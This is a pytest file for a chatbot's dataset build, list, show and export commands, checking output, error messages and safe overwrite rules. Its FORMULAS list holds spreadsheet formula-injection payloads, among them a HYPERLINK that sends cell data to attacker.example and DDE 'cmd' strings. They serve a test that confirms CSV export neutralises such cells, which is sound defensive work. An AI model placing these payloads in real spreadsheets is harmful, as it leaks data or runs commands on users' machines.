"""``chatbot data build|list|show|export`` through click's runner; CSV exports safe to open."""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pytest
from click.testing import CliRunner

from app.cli import main
from chatbot.logs import ConversationLog
from chatbot.spreadsheet import safe_cell
from training.data.dataset import load_training_data
from training.errors import DatasetError
from log_support import log_exchanges, log_with_a_session

DATA = Path(__file__).parent / "data" / "transcripts"


@pytest.fixture
def run(tmp_path, monkeypatch):
    monkeypatch.setenv("CHATBOT_DATA_DIR", str(tmp_path / "bot"))
    runner = CliRunner()

    def invoke(*args: str):
        return runner.invoke(main, list(args), catch_exceptions=False)

    return invoke


def test_build_prints_a_summary_and_skipped_lines(run):
    result = run("data", "build", "--name", "v1", "--from", str(DATA / "openai.jsonl"),
                 "--from", str(DATA / "invalid.jsonl"))
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0].startswith("dataset v1: train ")
    assert lines[1] == "read 22: 12 imported, 0 logged answers, 10 skipped as invalid"
    assert any(line.split()[:1] == ["dedupe"] and "1 exact duplicate" in line for line in lines)
    assert lines[-1].startswith("report: ") and lines[-1].endswith("v1/data_report.md")
    assert "skipped: " in result.stderr and "two user messages in a row" in result.stderr


@pytest.mark.parametrize("given, error", [
    ("transcript.jsonl", "transcript file {path} not found; check the path given to --from"),
    ("folder", "{path} is not a file; give --from a .jsonl, .json or .csv transcript file"),
])
def test_a_named_file_that_is_not_there_stops_the_build(run, tmp_path, given, error):
    """A misspelt --from is an error naming the path, not a build from the other sources."""
    (tmp_path / "folder").mkdir()
    path = tmp_path / given
    result = run("data", "build", "--name", "v1", "--from", str(DATA / "openai.jsonl"),
                 "--from", str(path))
    assert result.exit_code == 1
    assert result.stderr == f"error: {error.format(path=path)}\n"
    assert not (tmp_path / "bot" / "datasets" / "v1").exists()


def test_build_json_list_show_and_export(run, tmp_path):
    built = run("data", "build", "--name", "v1", "--from", str(DATA / "sharegpt.jsonl"),
                "--json")
    summary = json.loads(built.stdout)
    assert summary["name"] == "v1" and summary["imported"] == 3
    listed = run("data", "list")
    assert listed.stdout.startswith("v1\t") and "train " in listed.stdout
    shown = run("data", "show", "v1")
    assert shown.stdout.splitlines()[-1] == f"report: {summary['report']}"
    manifest = json.loads(run("data", "show", "v1", "--json").stdout)
    assert manifest["sha256"] and manifest["counts"]["imported"] == 3
    out = tmp_path / "v1.jsonl"
    exported = run("data", "export", "v1", "--out", str(out))
    assert exported.stdout.strip() == f"wrote 3 conversations to {out}"
    assert len(out.read_text().splitlines()) == 3


def test_an_export_to_a_csv_file_is_csv_unless_the_format_says_otherwise(run, tmp_path):
    """`data export v1 --out v1.csv` wrote JSON lines into v1.csv, which a spreadsheet opens
    as one column of JSON; the file's extension now chooses, and --format still rules."""
    assert run("data", "build", "--name", "v1", "--from", str(DATA / "sharegpt.jsonl")
               ).exit_code == 0
    for name, given in (("v1.csv", ()), ("V1.CSV", ()), ("v1.txt", ()),
                        ("rows.csv", ("--format", "jsonl"))):
        assert run("data", "export", "v1", "--out", str(tmp_path / name), *given).exit_code == 0
    header = "conversation_id,split,message,role,content"
    assert [(tmp_path / name).read_text(encoding="utf-8-sig").splitlines()[0]
            for name in ("v1.csv", "V1.CSV")] == [header, header]
    assert [json.loads((tmp_path / name).read_text().splitlines()[0])["messages"][0]["role"]
            for name in ("v1.txt", "rows.csv")] == ["system", "system"]


def test_export_never_writes_over_the_bots_own_files(run, tmp_path):
    """--out naming the log, the config or a file the bot keeps is refused, nothing written."""
    config, log = tmp_path / "bot.yaml", tmp_path / "bot" / "logs.sqlite"
    config.write_text("{}\n")
    run("data", "build", "--name", "v1", "--from", str(DATA / "sharegpt.jsonl"), "--config",
        str(config))
    before = config.read_bytes(), log_with_a_session(log, tmp_path / "link.jsonl")
    refusals = {log: "is the bot's conversation log; choose another --out path",
                tmp_path / "link.jsonl": "is the bot's conversation log",
                config: "is the bot's config file; choose another --out path",
                log.parent / "datasets" / "v1" / "export.jsonl": "is inside the bot's datasets",
                log.parent / "index" / "v1.jsonl": "is inside the bot's search index",
                log / "v1.jsonl": f"{log} is a file, not a folder"}
    for out, refusal in refusals.items():
        result = run("data", "export", "v1", "--out", str(out), "--config", str(config))
        assert result.exit_code == 1 and f"{out}" in result.output, out
        assert refusal in result.output, out
    assert (config.read_bytes(), log.read_bytes()) == before
    assert [s["id"] for s in ConversationLog(log).sessions()] == ["web-a"]
    assert not (log.parent / "index").exists()


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_an_export_cut_short_leaves_the_file_it_would_replace(run, tmp_path, fmt):
    """A real failure midway (the file size limit, as a full disk) keeps the edited file."""
    import resource
    import subprocess
    import sys

    run("data", "build", "--name", "v1", "--from", str(DATA / "sharegpt.jsonl"))
    out = tmp_path / f"v1.{fmt}"
    out.write_text("edited by hand\n")
    small = lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (512, 512))  # noqa: E731
    result = subprocess.run([sys.executable, "-m", "app", "data", "export", "v1", "--format",
                             fmt, "--out", str(out)], capture_output=True, text=True,
                            preexec_fn=small, env={**os.environ,
                                                   "CHATBOT_DATA_DIR": str(tmp_path / "bot")})
    assert result.returncode == 1 and result.stderr.startswith("error: "), result.stderr
    assert len(result.stderr.splitlines()) == 1
    assert out.read_text() == "edited by hand\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bot", f"v1.{fmt}"]


def test_export_into_a_pipe(run, tmp_path):
    """`--out /dev/stdout` in a pipeline is a named pipe: it is written, not refused."""
    import threading

    run("data", "build", "--name", "v1", "--from", str(DATA / "sharegpt.jsonl"))
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    received = []
    reader = threading.Thread(target=lambda: received.append(pipe.read_text()), daemon=True)
    reader.start()
    exported = run("data", "export", "v1", "--out", str(pipe))
    reader.join(timeout=30)
    assert exported.stdout.strip() == f"wrote 3 conversations to {pipe}"
    assert len(received[0].splitlines()) == 3


def test_errors_are_one_line(run, tmp_path):
    missing = run("data", "show", "nope")
    assert missing.exit_code == 1
    assert missing.stderr.startswith("error: no dataset 'nope' in ")
    assert missing.stderr.endswith("; build it with `chatbot data build --name nope`, or from the "
                                   "indexed documents with `chatbot data synth --name nope "
                                   "--teacher VARIANT`\n")
    strict = run("data", "build", "--name", "s", "--strict", "--from", str(DATA / "invalid.jsonl"))
    assert strict.exit_code == 1 and strict.stderr.count("\n") > 1  # the problems are listed
    assert strict.stderr.startswith("error: 10 problems in the imported transcripts")
    for command in (["data", "build", "--name", "../x", "--from", str(DATA / "faq.csv")],
                    ["data", "show", "../x"], ["train", "--data", "../x", "--name", "v2"]):
        bad_name = run(*command)  # a name, never a path out of the datasets folder
        assert bad_name.stderr.startswith("error: dataset name '../x' is not allowed"), command
    empty_log = run("data", "build", "--name", "x")  # --from logs is the default
    assert empty_log.stderr.startswith("error: the conversation log has no finished answers yet")
    blank = tmp_path / "blank.jsonl"
    blank.write_text("\n")
    both_empty = run("data", "build", "--name", "x", "--from", "logs", "--from", str(blank))
    assert both_empty.stderr == (
        f"error: no conversation to build from: {blank} holds none, and the conversation log "
        "has no finished answers yet; give --from a transcript of conversations (one JSON "
        "object a line, or a CSV of questions and answers)\n")
    nothing = run("data", "list")
    assert nothing.stdout.startswith("no datasets yet")


def test_data_is_listed_under_training_and_evaluation(run):
    help_text = run("--help").stdout
    section = help_text.split("Training and evaluation:")[1].split("Setup:")[0]
    assert any(line.split()[:1] == ["data"] for line in section.splitlines())


FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the answer")',
            "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_export_neutralises_formula_cells_and_keeps_the_text(run, tmp_path):
    answers = ["The sync indexes new and changed files only, so running it twice is cheap.",
               "Open the Arena tab to compare two variants side by side and vote.",
               "Build a dataset from the log with chatbot data build and read its report.",
               "Raise index.max_file_mb in the config when large PDF files are skipped.",
               "Run chatbot serve and open the printed address in any web browser.",
               "Set retrieval.k lower so that the prompt is shorter and answers come faster.",
               "Thumbed-down answers with a comment are kept for review, never trained on."]
    lines = [json.dumps({"messages": [{"role": "system", "content": formula},
                                      {"role": "user", "content": formula},
                                      {"role": "assistant", "content": f"{formula} {answer}"}]})
             for formula, answer in zip(FORMULAS, answers)]
    source = tmp_path / "formulas.jsonl"
    source.write_text("\n".join(lines) + "\n")
    assert run("data", "build", "--name", "f", "--from", str(source)).exit_code == 0
    out = tmp_path / "f.csv"
    exported = run("data", "export", "f", "--format", "csv", "--out", str(out))
    assert exported.stdout.strip() == f"wrote {len(FORMULAS)} conversations to {out}"
    with out.open(newline="", encoding="utf-8") as handle:
        header, *rows = list(csv.reader(handle))
    assert header == ["conversation_id", "split", "message", "role", "content"]
    assert len(rows) == 3 * len(FORMULAS)
    assert {row[4] for row in rows if row[3] == "user"} == {"'" + f for f in FORMULAS}
    assert all(row[4].startswith("'") for row in rows)  # nothing a spreadsheet would run


def test_building_from_a_csv_export_says_to_build_from_the_jsonl_export(run, tmp_path):
    """The CSV export is for reading; building from it was refused as a question-and-answer
    CSV whose columns data.question_field/data.answer_field could name, which they can't."""
    assert run("data", "build", "--name", "v1", "--from", str(DATA / "openai.jsonl")
               ).exit_code == 0
    out = tmp_path / "v1.csv"
    assert run("data", "export", "v1", "--format", "csv", "--out", str(out)).exit_code == 0
    rebuilt = run("data", "build", "--name", "v2", "--from", str(out))
    assert rebuilt.exit_code == 1
    assert rebuilt.stderr == (
        f"error: no valid conversation to build from: 1 problem, the first: {out}: this is "
        "the one-message-a-row CSV of `chatbot data export --format csv`, for reading; build "
        "from the JSONL export instead: `chatbot data export NAME --out FILE.jsonl`, then "
        "`--from FILE.jsonl`\n")


@pytest.mark.parametrize("cell", ["plain text", "a = b", "it costs 3-5 days", "", "'quoted"])
def test_ordinary_cells_are_written_unchanged(cell):
    assert safe_cell(cell) == cell


def test_a_dataset_from_one_conversation_says_how_to_get_a_validation_split(run, tmp_path):
    one = tmp_path / "one.jsonl"
    one.write_text((DATA / "openai.jsonl").read_text().splitlines()[0] + "\n")
    assert run("data", "build", "--name", "one", "--from", str(one)).exit_code == 0
    with pytest.raises(DatasetError, match="no validation examples.*raise "
                                           "data.validation_share in the config, and rebuild"):
        load_training_data(tmp_path / "bot", "one")


def test_a_damaged_dataset_is_listed_as_not_usable_and_the_others_as_ever(run, tmp_path):
    run("data", "build", "--name", "good", "--from", str(DATA / "sharegpt.jsonl"))
    run("data", "build", "--name", "torn", "--from", str(DATA / "sharegpt.jsonl"))
    manifest = tmp_path / "bot" / "datasets" / "torn" / "manifest.json"
    manifest.write_text(manifest.read_text()[:40])
    listed = run("data", "list")
    assert listed.exit_code == 0
    good, torn = listed.stdout.splitlines()
    assert good.startswith("good\t") and "train " in good
    assert torn.startswith(f"torn\tnot usable: {manifest} is not valid JSON")
    assert torn.endswith(f"; rebuild the dataset with `chatbot data build`, or delete "
                         f"{manifest.parent}")  # the remedy said once


def test_a_build_that_keeps_nothing_is_refused_and_says_why(run, tmp_path):
    """Every answer thumbed down: an empty dataset would only fail at training time."""
    log = ConversationLog(tmp_path / "bot" / "logs.sqlite")
    log_exchanges(log, "s1", [("How do I sync?", "Reinstall.", -1),
                              ("And remove a file?", "You cannot.", -1)])
    log.close()
    result = run("data", "build", "--name", "empty")
    assert result.exit_code == 1
    assert result.stderr == (
        "error: nothing to train on: none of the 2 conversations passed the curation steps "
        "(feedback: 2 thumbed down); relax data.feedback in the config, or add "
        "conversations; no dataset was written\n")
    assert not (tmp_path / "bot" / "datasets" / "empty").exists()
    assert run("data", "list").stdout.startswith("no datasets yet")



@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_export_to_standard_output_with_a_dash(run, tmp_path, fmt):
    """As `chatbot logs export --out -` does; a file named "-" was written instead."""
    run("data", "build", "--name", "v1", "--from", str(DATA / "sharegpt.jsonl"))
    run("data", "export", "v1", "--out", str(tmp_path / f"v1.{fmt}"), "--format", fmt)
    exported = run("data", "export", "v1", "--out", "-", "--format", fmt)
    assert exported.exit_code == 0 and exported.stderr == "wrote 3 conversations to stdout\n"
    assert exported.stdout == (tmp_path / f"v1.{fmt}").read_text(encoding="utf-8")
    assert not Path("-").exists()


def test_strict_with_a_preference_build_is_refused_not_ignored(run, tmp_path):
    result = run("data", "build", "--kind", "preference", "--name", "p", "--strict")
    assert result.exit_code == 1
    assert result.stderr == ("error: --strict is for a build without --kind preference; leave "
                             "it out\n")
